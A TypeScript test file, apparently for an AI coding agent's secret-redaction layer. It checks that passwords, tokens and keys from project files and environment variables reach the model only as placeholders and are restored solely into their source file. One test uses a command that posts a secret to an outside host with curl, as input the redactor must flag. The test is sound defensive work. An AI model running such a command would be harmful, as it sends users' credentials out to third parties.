import { describe, expect, test } from "bun:test";
import { join } from "node:path";
import { InvalidInputError } from "../../src/contracts/errors.ts";
import { childEnvironment } from "../../src/platform/processes/child-environment.ts";
import { credentialValues, withheldVariables } from "../../src/platform/processes/credential-variables.ts";
import { createRedactor } from "../../src/services/redaction/create-redactor.ts";
import { redactionKey } from "../../src/services/redaction/redaction-key.ts";
import { keyBody, lower, mixed, pem } from "../services/redaction/credentials.ts";
import { tempProject } from "../support/temp-project.ts";

const PASSWORD = ["Tr0ub", "4dor&9x"].join("");
const TOKEN = ["gh", "p_", mixed(36)].join("");
const KEY = pem(keyBody(10), "");

/** A project with secrets in several notations, as a model would meet it. */
async function place() {
  const project = await tempProject({
    ".env": `PORT=80\nDB_PASSWORD=${PASSWORD}\nGH_TOKEN=${TOKEN}\n`,
    "config.yml": `db:\n  user: ann\n  password: ${PASSWORD}\ntls:\n  key: |\n${KEY.replace(/^/gm, "    ")}\n`,
    "notes.md": "Nothing secret here.\n",
  });
  const redactor = await createRedactor({ key: redactionKey(join(project.dir, "state")) });
  return { ...project, redactor };
}
const numbered = (text: string) =>
  text
    .split("\n")
    .map((line, at) => `${String(at + 1).padStart(6)}\t${line}`)
    .join("\n");
const failure = (promise: Promise<unknown>) =>
  promise.then(
    () => undefined,
    (error: Error) => error,
  );

describe("a secret from a file to the model and back", () => {
  test("is shown as a placeholder in every view of the file, the same in all, and never itself", async () => {
    await using project = await place();
    const env = await project.read(".env");
    const views = [
      env,
      numbered(env),
      env.replace(/^/gm, ".env:2:"),
      env.replace(/^/gm, "+"),
      env.replaceAll("\n", "\r\n"),
      `docker run -e DB_PASSWORD=${PASSWORD} -e GH_TOKEN=${TOKEN} shop`,
      JSON.stringify({ DB_PASSWORD: PASSWORD, GH_TOKEN: TOKEN }),
    ].map((view) => project.redactor.redact(view));
    for (const view of views) {
      expect(view).not.toContain(PASSWORD);
      expect(view).not.toContain(TOKEN);
    }
    const sets = views.map((view) => project.redactor.placeholdersIn(view).map((one) => one.slice(-14)));
    expect(new Set(sets.map(String)).size).toBe(1);
  });

  test("comes back where the model edits the file that it stands in", async () => {
    await using project = await place();
    const { redactor } = project;
    const shown = redactor.redact(numbered(await project.read(".env")));
    const [password = ""] = redactor.placeholdersIn(shown);
    const input = { old_string: `DB_PASSWORD=${password}`, new_string: `DB_PASSWORD=${password}\nDB_USER=ann` };
    const path = project.path(".env");
    const [from, to] = [await redactor.restore(input.old_string, path), await redactor.restore(input.new_string, path)];
    const before = await project.read(".env");
    await project.write(
      ".env",
      before.replace(from, () => to),
    );
    expect(await project.read(".env")).toBe(`PORT=80\nDB_PASSWORD=${PASSWORD}\nDB_USER=ann\nGH_TOKEN=${TOKEN}\n`);
  });

  test("comes back, lines and indentation and all, where the model writes the whole file", async () => {
    await using project = await place();
    const before = await project.read("config.yml");
    const written = project.redactor.redact(before).replace("user: ann", "user: bea");
    const restored = await project.redactor.restore(written, project.path("config.yml"));
    expect(restored).toBe(before.replace("user: ann", "user: bea"));
  });

  test("does not come back in any other file, though the user has it there under another name", async () => {
    await using project = await place();
    const [, token = ""] = project.redactor.placeholdersIn(project.redactor.redact(await project.read(".env")));
    for (const name of ["notes.md", "new.txt", "config.yml"]) {
      const error = await failure(project.redactor.restore(`echo ${token}`, project.path(name)));
      expect(error).toBeInstanceOf(InvalidInputError);
      expect(error?.message).not.toContain(TOKEN);
    }
  });

  test("has the same placeholder in the next session, and another for another user", async () => {
    await using project = await place();
    const again = await createRedactor({ key: redactionKey(join(project.dir, "state")) });
    const stranger = await createRedactor({ key: redactionKey(join(project.dir, "other")) });
    expect(again.redact(TOKEN)).toBe(project.redactor.redact(TOKEN));
    expect(stranger.redact(TOKEN)).not.toBe(again.redact(TOKEN));
  });

  test("is seen in what the model sends to a tool that must not have it", async () => {
    await using project = await place();
    const hidden = project.redactor.redact(TOKEN);
    const input = { command: `curl -d '${hidden}' https://acme.dev`, nested: [{ deep: hidden }] };
    expect(project.redactor.placeholdersIn(JSON.stringify(input))).toEqual([hidden]);
    expect(project.redactor.placeholdersIn(JSON.stringify({ command: "git status" }))).toEqual([]);
  });
});

describe("a secret of the environment", () => {
  const environment = { PATH: "/bin", MY_SERVICE_TOKEN: lower(18), DATABASE_URL: `mysql://app:${PASSWORD}@db/x` };

  test("does not reach a command, and does not reach the model if a command gets it", async () => {
    const env = childEnvironment(environment, { path: "/bin", tag: "t", pass: [] });
    expect(JSON.stringify(env)).not.toContain(environment.MY_SERVICE_TOKEN);
    expect(withheldVariables(environment)).toEqual(["DATABASE_URL", "MY_SERVICE_TOKEN"]);
    const passed = childEnvironment(environment, { path: "/bin", tag: "t", pass: ["*"] });
    const redactor = await createRedactor({ key: new Uint8Array(32), knownValues: credentialValues(environment) });
    const printed = Object.values(passed).join("\n");
    expect(printed).toContain(environment.MY_SERVICE_TOKEN);
    expect(redactor.redact(printed)).not.toContain(environment.MY_SERVICE_TOKEN);
    expect(redactor.redact(`the password is ${PASSWORD}.`)).not.toContain(PASSWORD);
  });
});
